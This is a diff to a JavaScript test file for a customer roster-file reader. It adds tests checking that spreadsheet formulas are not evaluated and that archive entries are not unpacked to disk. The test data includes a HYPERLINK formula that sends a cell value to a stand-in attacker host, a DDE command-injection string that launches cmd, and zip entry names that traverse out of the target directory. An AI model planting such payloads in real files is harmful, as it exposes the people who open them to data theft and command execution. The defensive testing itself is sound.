@@ -1,3 +1,4 @@
+import { existsSync } from 'node:fs'
 import { join } from 'node:path'
 import { pathToFileURL } from 'node:url'
 import { strToU8, zipSync } from 'fflate'
@@ -50,6 +51,21 @@ describe('a roster file from a customer', () => {
       ['A "B"', '8'],
     ])
     expect(readCsv(new Uint8Array([0x50, 0x65, 0xf1, 0x61, 0x2c, 0x37]))).toEqual([['Peña', '7']])
+  })
+
+  test('a formula is what it showed when it was saved, or its own words; nothing is reckoned, fetched or run', async () => {
+    const formula = strToU8(
+      '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>HYPERLINK("http://evil.example/"&amp;B1)</f><v>shown</v></c><c r="B1" t="inlineStr"><is><t>=cmd|" /C calc"!A0</t></is></c></row></sheetData></worksheet>',
+    )
+    const seen = await read('r.xlsx', workbook([], { 'xl/worksheets/sheet1.xml': formula }))
+    expect(seen).toEqual({ table: [['shown', '=cmd|" /C calc"!A0']] })
+    expect(readCsv(strToU8('=1+1,@SUM(A1)\n'))).toEqual([['=1+1', '@SUM(A1)']])
+  })
+
+  test('names in an archive that lead elsewhere lead nowhere: nothing is unpacked to the disk', async () => {
+    const away = { '../../../tmp/platenpost-planted': strToU8('x'), '/tmp/platenpost-planted': strToU8('x') }
+    expect(await read('r.xlsx', workbook([['Name'], ['Hale']], away))).toEqual({ table: [['Name'], ['Hale']] })
+    expect(existsSync('/tmp/platenpost-planted')).toBe(false)
   })
 
   test('a workbook is read in its thread, figures as they were written', async () => {
